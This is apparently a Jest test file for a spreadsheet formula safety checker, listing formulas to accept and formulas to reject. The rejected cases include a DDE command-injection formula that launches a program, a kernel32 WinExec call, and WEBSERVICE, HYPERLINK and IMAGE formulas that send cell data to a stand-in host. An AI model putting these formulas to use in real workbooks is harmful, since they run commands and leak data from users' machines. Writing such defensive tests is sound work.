import { isSafeFormula } from "./safe-formula";

const names = [
  { name: "Market", formula: "=Model!$B$4" },
  { name: "Model!Twice", formula: "=LAMBDA(x,x*Factor)" },
  { name: "Factor", formula: "=2" },
  { name: "Fetch", formula: '=WEBSERVICE("https://x.example/")' },
  { name: "Behind", formula: "=Fetch&1" },
  { name: "Round", formula: "=Round" },
];

test.each([
  '=RE.SHARE("magnets","China")',
  '=B4*(1+RE.COSTPREMIUM(A7,,,,"high"))',
  "=IFERROR(_xldudf_RE_HHI('My sheet'!$A$1:B2),0)",
  '=SUMPRODUCT(_xlfn._xlws.FILTER(A1:A9,B1:B9="x"))+RE.ASOF()',
  "=RE.SHARE(Market,[@country])+Twice(3)",
  "=LET(x,RE.ASOF(),x+1)",
  "=SUM(RE.TOP(A1)#,A5#)",
])("%s only calculates", (formula) => {
  expect(isSafeFormula(formula, names)).toBe(true);
});

test.each([
  "=SUM(A1:A9)",
  '=WEBSERVICE("https://x.example/?"&RE.ASOF())',
  '=HYPERLINK("https://x.example/",RE.ASOF())',
  '=IMAGE("https://x.example/"&RE.ASOF())',
  "=RE.ASOF()+[Book2.xlsx]Sheet1!A1",
  "=RE.ASOF()+'C:\\a\\[Book2.xlsx]Sheet1'!A1",
  "=RE.ASOF()+Book2.xlsx!Rate",
  "=cmd|'/c calc'!A1+RE.ASOF()",
  '=RTD("a.b",,RE.ASOF())',
  '=CALL("kernel32","WinExec","JCJ",RE.ASOF(),0)',
  "=OTHER.ADDIN(RE.ASOF())",
  "=[2]!_xldudf_MY_FETCH(RE.ASOF())",
  '=INDIRECT("A"&RE.ASOF())',
  "=RE.ASOF()&Fetch",
  "=RE.ASOF()&Behind",
  "=RE.ASOF()&Round",
])("%s does more, or nothing of ours", (formula) => {
  expect(isSafeFormula(formula, names)).toBe(false);
});
